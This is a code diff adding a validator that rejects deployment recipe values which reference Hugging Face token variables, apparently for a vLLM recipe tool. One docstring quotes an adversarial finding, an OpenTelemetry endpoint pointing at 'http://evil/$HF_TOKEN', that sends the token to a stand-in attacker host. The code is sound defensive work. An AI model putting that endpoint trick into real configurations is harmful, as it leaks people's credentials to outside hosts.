@@ -66,6 +66,32 @@ the downward API ``POD_IP`` (``status.podIP``), a Secret ``HF_TOKEN``."""
 PLATFORM_NAMES = SHELL_NAMES | POD_NAMES
 """Names a recipe never sets: the platform provides them."""
 
+SECRET_NAMES = frozenset({"HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HUGGINGFACE_HUB_TOKEN"})
+"""Names that hold a person's credentials: vLLM and the Hugging Face libraries
+read them from the environment themselves, so no recipe text needs them. A
+recipe value that names one would carry the token where the recipe chose
+(adversarial finding: ``--otlp-traces-endpoint http://evil/$HF_TOKEN`` sent it
+to a stranger's host in every form; the Kubernetes form took it from the
+Secret)."""
+
+_SECRET_REF = re.compile(r"\$(?:\{|\()?(" + "|".join(sorted(SECRET_NAMES)) + r")(?![A-Za-z0-9_])")
+
+
+def secret_refs(value: str) -> list[str]:
+    """The ``SECRET_NAMES`` that ``value`` refers to as ``$NAME``, ``${NAME}``
+    or ``$(NAME)`` (the Kubernetes form's reference), in order; [] for none."""
+    return [m.group(1) for m in _SECRET_REF.finditer(value)] if isinstance(value, str) else []
+
+
+def secret_problem(value: str) -> Optional[str]:
+    """Why ``value`` may not stand in a recipe (it refers to a credential,
+    ``secret_refs``), or None."""
+    found = secret_refs(value)
+    if not found:
+        return None
+    return (f"refers to ${found[0]}, a credential: a recipe may not pass it anywhere (vLLM and the Hugging Face "
+            "libraries read it from the environment themselves)")
+
 DEVICE_LISTS = ("CUDA_VISIBLE_DEVICES", "HIP_VISIBLE_DEVICES", "ROCR_VISIBLE_DEVICES")
 """The env vars that pick a node's GPUs by index (CUDA; ROCm's two). A
 platform that hands a process only some of a node's GPUs numbers them again
